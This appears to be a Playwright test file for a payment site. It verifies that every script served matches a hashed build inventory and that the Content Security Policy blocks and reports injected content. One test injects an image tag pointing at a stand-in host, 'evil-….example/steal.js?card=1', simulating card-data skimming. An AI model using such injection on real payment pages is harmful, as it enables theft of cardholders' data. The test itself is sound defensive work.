import { createHash } from "node:crypto";
import { fileURLToPath } from "node:url";
import type { Page } from "@playwright/test";
import { findTamperingAt, readInventory } from "../bin/page-scripts.mjs";
import { createPayment } from "./support/api";
import { BASE_URL } from "./support/environment";
import { withDatabase } from "./support/ledger";
import { giveCard, open, untilScripted } from "./support/payer";
import { expect, test } from "./support/test";

test.describe.configure({ mode: "parallel" });

const inventory = readInventory(fileURLToPath(new URL("../.next", import.meta.url)));

test("every script that a payer's browser is sent is in the inventory, as what a payment page loads", async ({
  page,
}) => {
  const sent = new Map<string, Promise<Buffer>>();
  page.on("response", (response) => {
    const { pathname } = new URL(response.url());
    if (response.request().resourceType() === "script") sent.set(pathname, response.body());
  });
  await open(page, await createPayment());
  await untilScripted(page);
  await giveCard(page);
  await untilScripted(page);
  await page.goto("/help/privacy");
  await page.waitForLoadState("load");
  expect(sent.size).toBeGreaterThan(2);
  for (const [path, body] of sent) {
    const listed = inventory?.scripts.find(({ file }) => `/_next/${file}` === path);
    const sha384 = createHash("sha384")
      .update(await body)
      .digest("base64");
    expect.soft(listed, path).toMatchObject({ payment: true, sha384 });
  }
});

test("the server sends every script as it was built", async () => {
  expect(inventory?.scripts.length).toBeGreaterThan(2);
  expect(inventory && (await findTamperingAt(inventory, BASE_URL))).toEqual([]);
});

test.describe("with something on the page that our policy forbids", () => {
  test.use({ tolerated: /Content Security Policy/u });

  test("the browser forbids it and tells us, and we count it without the payment's id", async ({ page }) => {
    await open(page, await createPayment());
    await reportAtOnce(page);
    await page.reload();
    const host = `https://evil-${Date.now()}.example`;
    await inject(page, `${host}/steal.js?card=1`);
    await expect
      .poll(async () =>
        withDatabase(
          (sql) => sql`select directive, page, times::int from policy_reports where blocked = ${host}`,
        ),
      )
      .toEqual([{ directive: "img-src", page: "/card-details/*", times: 1 }]);
  });
});

/** Chromium keeps reports for report-to back for a minute; those for report-uri it sends at once. */
async function reportAtOnce(page: Page): Promise<void> {
  await page.route("**/card-details/*", async (route) => {
    const response = await route.fetch();
    const headers = response.headers();
    const policy = headers["content-security-policy"]?.replace("; report-to csp", "") ?? "";
    await route.fulfill({ response, headers: { ...headers, "content-security-policy": policy } });
  });
}

async function inject(page: Page, address: string): Promise<void> {
  await page.evaluate((src) => {
    document.body.append(Object.assign(document.createElement("img"), { src }));
  }, address);
}
